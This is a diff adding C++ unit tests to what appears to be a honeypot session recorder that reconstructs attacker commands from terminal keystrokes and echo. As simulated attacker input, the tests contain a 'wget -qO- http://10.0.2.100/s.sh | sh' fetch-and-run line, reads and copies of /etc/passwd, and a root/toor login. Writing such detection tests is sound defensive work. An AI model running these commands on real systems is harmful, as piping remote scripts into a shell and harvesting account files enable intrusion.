@@ -15,6 +15,7 @@
 #include <cstring>
 #include <filesystem>
 #include <fstream>
+#include <map>
 #include <sstream>
 
 namespace hvtrace::session {
@@ -696,6 +697,126 @@ TEST(SessionEngine, HostileInputIsBoundedAndMarked) {
   EXPECT_LT(fs::file_size(sdir / "transcript.txt"), 200u << 10);
 }
 
+// What real attackers do that the keys alone do not show: a tab-completed command whose echo
+// comes after the shell already forked it, `wget -qO- URL | sh` (a download never written to a
+// file), and files written with writev, or copied inside the kernel (cp's sendfile).
+TEST(SessionEngine, TabCompletionPipedDownloadAndKernelCopies) {
+  Rig r;
+  auto& [dir, t, g] = r;
+  g.accept(kServer, kSock, sockaddr_in(10, 0, 2, 2, 40000));
+  g.fork(kServer, kConn);
+  t.on_credential(kConn, Credential::kUser, "root", g.now);
+  t.on_credential(kConn, Credential::kPassword, "toor", g.now);
+  g.open(kConn, "/dev/ptmx", 0x80002, kMaster);
+  g.fork(kConn, kShell);
+  g.exec(kShell, "/bin/bash", {"-bash"});
+  const std::string prompt = "\x1b[?2004hroot@hvtrace-guest:~# ";
+  g.read(kConn, kMaster, prompt);
+  // cat /etc/pas<TAB><Enter> typed in one write; bash forks cat before the server reads the echo.
+  g.type(kConn, kMaster, "cat /etc/pas", "cat /etc/pas");
+  g.write(kConn, kMaster, "\t\r");
+  g.fork(kShell, 300);
+  g.exec(300, "/bin/cat", {"cat", "/etc/passwd"});
+  g.read(kConn, kMaster, "swd \r\n\x1b[?2004l\rroot:x:0:0:root:/root:/bin/bash\r\n");
+  g.exit(300, 0);
+  g.read(kConn, kMaster, prompt);
+  // wget -qO- URL | sh, the URL's name completed by TAB: the shell's pipe, the downloader's stdout
+  // on its write end, sh's stdin on its read end.
+  const std::string script = "#!/bin/sh\necho piped-script-ran\n";
+  g.type(kConn, kMaster, "wget -qO- http://10.0.2.100/s.s", "wget -qO- http://10.0.2.100/s.s");
+  g.type(kConn, kMaster, "\t", "h ");
+  g.type(kConn, kMaster, "| sh", "| sh");
+  g.type(kConn, kMaster, "\r", "\r\n\x1b[?2004l\r");
+  g.pipe(kShell, 3, 4);
+  g.fork(kShell, 301);
+  g.fork(kShell, 302);
+  g.call(301, "dup2", {4, 1}, 1);
+  g.close(301, 3);
+  g.close(301, 4);
+  g.exec(301, "/usr/bin/wget", {"wget", "-qO-", "http://10.0.2.100/s.sh"});
+  g.call(302, "dup2", {3, 0}, 0);
+  g.close(302, 3);
+  g.close(302, 4);
+  g.exec(302, "/bin/sh", {"sh"});
+  g.close(kShell, 3);
+  g.close(kShell, 4);
+  g.write(301, 1, script.substr(0, 10));
+  g.write(301, 1, script.substr(10));
+  g.read(302, 0, script);
+  g.exit(301, 0);
+  g.read(kConn, kMaster, "piped-script-ran\r\n");
+  g.exit(302, 0);
+  g.read(kConn, kMaster, prompt);
+  // cp with sendfile (the bytes never leave the kernel), a writev with its data gathered, a
+  // pwritev whose iovecs are not copied.
+  g.type(kConn, kMaster, "cp /etc/passwd /tmp/pw\r", "cp /etc/passwd /tmp/pw\r\n");
+  g.fork(kShell, 303);
+  g.exec(303, "/bin/cp", {"cp", "/etc/passwd", "/tmp/pw"});
+  g.open(303, "/etc/passwd", 0, 3);
+  g.open(303, "/tmp/pw", kCreateFlags, 4);
+  g.call(303, "sendfile", {4, 3, 0, 0x1000000}, 1234);
+  g.close(303, 4);
+  g.exit(303, 0);
+  g.read(kConn, kMaster, prompt);
+  g.type(kConn, kMaster, "logger\r", "logger\r\n");
+  g.fork(kShell, 304);
+  g.exec(304, "/bin/logger", {"logger"});
+  g.open(304, "/tmp/log", kCreateFlags, 5);
+  g.call(304, "writev", {5, 0x1000, 2}, 11, {cap(1, CaptureKind::kBuffer, "hello world")});
+  g.call(304, "pwritev", {5, 0x1000, 2, 11}, 5);
+  g.close(304, 5);
+  g.open(304, "/tmp/v", kCreateFlags, 6);
+  g.call(304, "writev", {6, 0x1000, 2}, 6, {cap(1, CaptureKind::kBuffer, "hello\n")});
+  g.close(304, 6);
+  g.exit(304, 0);
+  g.read(kConn, kMaster, prompt);
+  g.type(kConn, kMaster, "exit\r", "exit\r\n");
+  g.exit(kShell, 0);
+  g.exit(kConn, 0);
+
+  const fs::path sdir = dir.path() / t.session_ids().at(0);
+  const auto ev = jsonl(sdir / "events.jsonl");
+  std::vector<std::string> inputs;
+  for (const auto& e : by_id(ev, "cowrie.command.input")) inputs.push_back(e["input"]);
+  EXPECT_EQ(inputs, (std::vector<std::string>{"cat /etc/passwd", "wget -qO- http://10.0.2.100/s.sh | sh",
+                                              "cp /etc/passwd /tmp/pw", "logger", "exit"}));
+  const std::string tr = slurp(sdir / "transcript.txt");
+  // cat was forked before its line was known: its status is still the command's
+  EXPECT_NE(tr.find("$ cat /etc/passwd\nroot:x:0:0:root:/root:/bin/bash\n[exit 0]\n"), std::string::npos) << tr;
+
+  const auto dl = by_id(ev, "cowrie.session.file_download");
+  ASSERT_EQ(dl.size(), 1u);
+  EXPECT_EQ(dl[0]["url"], "http://10.0.2.100/s.sh");
+  EXPECT_EQ(dl[0]["shasum"], "827ef51200edf6a75f6226ebc4e3ed5fe07cbfe9529bb9da30b436c7aacb4906");
+  EXPECT_EQ(dl[0]["size"], script.size());
+  EXPECT_EQ(dl[0]["pipe"], true);
+  EXPECT_EQ(dl[0]["destfile"], "-");
+  EXPECT_EQ(dl[0]["reader"], "sh");
+  EXPECT_EQ(dl[0]["reader_pid"], 302);
+  EXPECT_EQ(dl[0]["pid"], 301);
+  ASSERT_TRUE(dl[0].contains("outfile"));
+  EXPECT_EQ(slurp(dl[0]["outfile"].get<std::string>()), script);
+  EXPECT_NE(tr.find("downloaded http://10.0.2.100/s.sh to a pipe read by sh (pid 302)"), std::string::npos) << tr;
+
+  std::map<std::string, json> writes;
+  for (const auto& e : by_id(ev, "hvtrace.file.write")) writes[e["path"]] = e;
+  ASSERT_EQ(writes.size(), 3u);
+  const json& pw = writes["/tmp/pw"];
+  EXPECT_EQ(pw["size"], 1234);
+  EXPECT_FALSE(pw.contains("shasum")) << pw.dump();   // no hash rather than the empty file's
+  EXPECT_EQ(pw["content_captured"], false);
+  EXPECT_EQ(pw["bytes_not_captured"], 1234);
+  EXPECT_EQ(pw["complete"], false);
+  const json& lg = writes["/tmp/log"];
+  EXPECT_EQ(lg["size"], 16);
+  EXPECT_FALSE(lg.contains("shasum"));
+  EXPECT_EQ(lg["bytes_not_captured"], 5);
+  const json& v = writes["/tmp/v"];
+  EXPECT_EQ(v["shasum"], "5891b5b522d5df086d0ff0b110fbd9d21bb4fc7163af34d08286a2e846f6be03");   // "hello\n"
+  EXPECT_EQ(v["complete"], true);
+  EXPECT_NE(tr.find("wrote /tmp/pw (1234 bytes, content not captured"), std::string::npos) << tr;
+}
+
 TEST(SessionText, TranscriptLinesKeepTextAndSummarizeBinary) {
   EXPECT_EQ(transcript_line("total 4\t-rw-r--r-- f.txt"), "total 4\t-rw-r--r-- f.txt");
   EXPECT_EQ(transcript_line("\x1b[01;34mbin\x1b[0m"), "\x1b[01;34mbin\x1b[0m");   // colours stay for a terminal
@@ -722,6 +843,184 @@ TEST(SessionText, LineEditorAppliesEditingKeys) {
   feed("abc\x03" "pwd\n");                 // Ctrl-C abandons a line
   feed("caf\xC3\xA9\x7f" "e\r");           // backspace erases a whole UTF-8 character
   EXPECT_EQ(lines, (std::vector<std::string>{"ls -l", "rm -rf y", "uname -a", "eoch", "eoch", "pwd", "cafe"}));
+}
+
+// The editor with the terminal's echo, as bash (readline) draws it: what the keys alone cannot
+// tell (TAB, history from before the session, Ctrl-R) is read from the row after the prompt.
+struct EchoRig {
+  LineEditor ed{4096};
+  std::vector<LineEditor::Line> lines;
+  std::uint64_t clock = 0;
+  void key(std::string_view k) { ed.feed(k, [&](LineEditor::Line l) { lines.push_back(std::move(l)); }, ++clock); }
+  void out(std::string_view o) { ed.output(o, [&](LineEditor::Line l) { lines.push_back(std::move(l)); }); }
+  // One key, then its echo in its own read (the usual order on the wire).
+  void typed(std::string_view k, std::string_view echo) {
+    key(k);
+    out(echo);
+  }
+  std::vector<std::string> texts() const {
+    std::vector<std::string> v;
+    for (const auto& l : lines) v.push_back(l.text);
+    return v;
+  }
+};
+constexpr std::string_view kBashPrompt = "\x1b[?2004hroot@hvtrace-guest:~# ";
+constexpr std::string_view kBashEnterEcho = "\r\n\x1b[?2004l\r";
+
+TEST(SessionText, EchoLineModelsTheRowAfterThePrompt) {
+  EchoLine e(4096);
+  e.set_width(40);
+  e.feed("\x1b]0;title\x07\x1b[01;32mroot@box\x1b[00m:~# ");
+  ASSERT_TRUE(e.mark_prompt());
+  e.feed("lss\b \b -l");   // a backspace as readline echoes it
+  EXPECT_EQ(e.line(100)->text, "ls -l");
+  e.feed("\b\b\b\x1b[K");   // cursor back over " -l", erase to the end
+  EXPECT_EQ(e.line(100)->text, "ls");
+  e.feed("\x1b[2D\x1b[1@x");   // insert a blank at the start, then write into it
+  EXPECT_EQ(e.line(100)->text, "xls");
+  e.feed("\x1b[1P");         // delete under the cursor
+  EXPECT_EQ(e.line(100)->text, "xs");
+  // A line longer than the window wraps on the terminal; it stays one row here, and a redraw
+  // from the start of its first visual row (up, \r) rewrites it in place.
+  e.feed("\r\x1b[K");
+  EXPECT_FALSE(e.line(100).has_value());   // the prompt is gone from the row: nothing to say
+  const std::string longline(50, 'w');
+  e.feed("root@box:~# " + longline);
+  EXPECT_EQ(e.line(100)->text, longline);
+  e.feed("\x1b[A\rroot@box:~# " + std::string(50, 'v'));
+  EXPECT_EQ(e.line(100)->text, std::string(50, 'v'));
+  // A newline that ends the row: the next row starts empty.
+  int ended = 0;
+  e.feed("\r\n", [&] { ++ended; });
+  EXPECT_EQ(ended, 1);
+  EXPECT_EQ(e.row(), "");
+  // UTF-8 characters are one cell each, even split across reads.
+  e.feed("root@box:~# caf\xC3");
+  e.feed("\xA9\b\b");
+  ASSERT_TRUE(e.line(100).has_value());
+  EXPECT_EQ(e.line(100)->text, "caf\xC3\xA9");
+  EXPECT_EQ(e.line(100)->cursor, 2u);
+}
+
+TEST(SessionText, TabCompletionIsTakenFromTheEcho) {
+  EchoRig r;
+  r.out("Linux hvtrace-guest\r\n");
+  r.out(kBashPrompt);
+  for (const char c : std::string_view("cat /etc/pas")) r.typed(std::string(1, c), std::string(1, c));
+  r.typed("\t", "swd ");   // one match: the rest of the name and a blank
+  r.key("\r");
+  EXPECT_TRUE(r.lines.empty()) << "the line must wait for its echo's newline";
+  r.out(kBashEnterEcho);
+  ASSERT_EQ(r.texts(), (std::vector<std::string>{"cat /etc/passwd"}));
+  EXPECT_TRUE(r.lines[0].from_echo);
+  EXPECT_EQ(r.lines[0].at, r.clock);   // timed by the Enter key, not by the echo
+  r.out("root:x:0:0:root:/root:/bin/bash\r\n");
+  r.out(kBashPrompt);
+
+  // Fast typing: the keys, TAB and Enter in one write, the echo after, split anyhow.
+  r.key("ls -l /usr/inc\t\r");
+  r.out("ls -l /usr/inc");
+  r.out("lude/");
+  r.out("\r");
+  EXPECT_EQ(r.lines.size(), 1u);
+  r.out("\n\x1b[?2004l\rtotal 0\r\n");
+  EXPECT_EQ(r.texts().back(), "ls -l /usr/include/");
+  r.out(kBashPrompt);
+
+  // Keys typed after the TAB but before its echo: the echo has them all in the end.
+  r.key("echo /et\t");
+  r.key("hosts");
+  r.out("echo /etc/");
+  r.out("hosts");
+  r.key("\r");
+  r.out(kBashEnterEcho);
+  EXPECT_EQ(r.texts().back(), "echo /etc/hosts");
+}
+
+TEST(SessionText, DoubleTabListsThenTheLineContinues) {
+  EchoRig r;
+  r.out(kBashPrompt);
+  r.typed("ls /etc/pas", "ls /etc/pas");
+  r.typed("\t", "swd");   // two matches (passwd, passwd-): the common part, no blank
+  r.typed("\t", "\r\npasswd   passwd-  \r\n");   // the second TAB lists them ...
+  r.out("\x1b[?2004hroot@hvtrace-guest:~# ls /etc/passwd");   // ... and redraws prompt and line
+  EXPECT_EQ(r.ed.current(), "ls /etc/passwd");
+  r.typed("-", "-");
+  r.typed("\t", " ");
+  r.typed("\r", kBashEnterEcho);
+  EXPECT_EQ(r.texts(), (std::vector<std::string>{"ls /etc/passwd-"}));
+
+  // The bell: nothing to complete, the line stays as typed.
+  r.out(kBashPrompt);
+  r.typed("cat /nonexist", "cat /nonexist");
+  r.typed("\t", "\a");
+  r.typed("\t", "\a");
+  r.typed("\r", kBashEnterEcho);
+  EXPECT_EQ(r.texts().back(), "cat /nonexist");
+}
+
+TEST(SessionText, HistoryFromBeforeTheSessionAndSearchComeFromTheEcho) {
+  EchoRig r;
+  r.out(kBashPrompt);
+  // Up with an empty session history: bash recalls ~/.bash_history's last line.
+  r.typed("\x1b[A", "wget -qO- http://10.0.2.100/s.sh | sh");
+  r.typed("\r", kBashEnterEcho);
+  EXPECT_EQ(r.texts(), (std::vector<std::string>{"wget -qO- http://10.0.2.100/s.sh | sh"}));
+  // Up twice over a half-typed line, edited after: readline moves back and rewrites.
+  r.out(kBashPrompt);
+  r.typed("xyz", "xyz");
+  r.typed("\x1b[A", "\b\b\bwget -qO- http://10.0.2.100/s.sh | sh");
+  r.typed("\x1b[A", "\r\x1b[Kroot@hvtrace-guest:~# uname -a");
+  r.typed("\x7f", "\b \b");
+  r.typed("r", "r");
+  r.typed("\r", kBashEnterEcho);
+  EXPECT_EQ(r.texts().back(), "uname -r");
+  // Ctrl-R: the search prompt replaces the prompt; accepting restores it with the match.
+  r.out(kBashPrompt);
+  r.typed("\x12", "\r\x1b[K(reverse-i-search)`': ");
+  r.typed("w", "\r\x1b[K(reverse-i-search)`w': wget -qO- http://10.0.2.100/s.sh | sh");
+  r.typed("g", "\r\x1b[K(reverse-i-search)`wg': wget -qO- http://10.0.2.100/s.sh | sh");
+  r.key("\r");
+  r.out("\r\x1b[Kroot@hvtrace-guest:~# wget -qO- http://10.0.2.100/s.sh | sh");
+  r.out(kBashEnterEcho);
+  EXPECT_EQ(r.texts().back(), "wget -qO- http://10.0.2.100/s.sh | sh");
+  // No echo at all (the keys go to a program that does not echo): the keys stand, a tab as a tab.
+  LineEditor quiet(100);
+  std::vector<std::string> got;
+  quiet.feed("ls /et\t\r", [&](LineEditor::Line l) { got.push_back(l.text); });
+  EXPECT_EQ(got, (std::vector<std::string>{"ls /et\t"}));
+  // An Enter whose echo never ends is entered when the session ends (flush), as the row stands.
+  EchoRig f;
+  f.out(kBashPrompt);
+  f.typed("ls /tm\t", "ls /tmp/");
+  f.key("\r");
+  f.ed.flush([&](LineEditor::Line l) { f.lines.push_back(std::move(l)); });
+  EXPECT_EQ(f.texts(), (std::vector<std::string>{"ls /tmp/"}));
+}
+
+TEST(SessionText, EchoModelStaysBoundedOnHostileOutput) {
+  EchoRig r;
+  r.out(kBashPrompt);
+  r.typed("x\t", "x");
+  // A megabyte of text with no newline, escape floods, huge counts, a runaway sequence.
+  const std::string mb(1 << 20, 'A');
+  r.out(mb);
+  EXPECT_LE(r.ed.echo().row().size(), LineEditor::kMaxEchoCells);
+  std::string flood;
+  for (int i = 0; i < 20000; ++i) flood += "\x1b[99999@\x1b[99999P\x1b[99999C\x1b[99999D\x1b[99999A\x1b[99999B";
+  r.out(flood);
+  r.out("\x1b[" + std::string(100000, '9'));
+  r.out("\x1b]" + std::string(100000, 'x'));
+  r.out(std::string(100000, '\xC3'));
+  EXPECT_LE(r.ed.echo().row().size(), 4 * LineEditor::kMaxEchoCells);
+  r.out("\r\n");
+  r.out(kBashPrompt);
+  r.typed("ok", "ok");
+  r.typed("\t", " ");
+  r.typed("\r", kBashEnterEcho);
+  ASSERT_FALSE(r.lines.empty());
+  EXPECT_EQ(r.texts().back(), "ok");
+  EXPECT_LE(r.ed.current().size(), 4096u);
 }
 
 TEST(SessionText, Utf8StreamKeepsSplitCharactersAndReplacesInvalidBytes) {
